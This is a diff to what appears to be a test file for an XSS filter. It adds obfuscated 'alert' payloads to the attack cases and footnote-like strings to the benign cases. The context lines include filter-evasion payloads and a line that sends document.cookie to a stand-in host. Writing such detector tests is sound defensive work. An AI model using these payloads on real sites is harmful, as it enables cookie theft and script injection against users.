@@ -79,6 +79,8 @@ RULE_CASES: dict[str, list[str]] = {
         "</script>",
         "prompt`1`",
         "top['al'+'ert'](1)",
+        "self[`ale`+`rt`] (document.domain)",
+        "top[8680439..toString(30)](1)",  # a number is a key only with code around it
         "[1].find(alert)",
         "alert?.(1)",
         "new Image().src='//x.example/?'+document.cookie",
@@ -105,6 +107,8 @@ STRICT_ONLY = ["<svg>", "<form action=/login>", "<math><mi>x</mi></math>"]
 
 BENIGN = [
     "a < b",
+    "as described in this [1] (see the changelog)",  # a footnote mark: a number names a frame, no function
+    "top [2] (Closes: #839721)",
     "a<b and c>d",
     "<bob@x.com>",
     "<b>bold</b>",
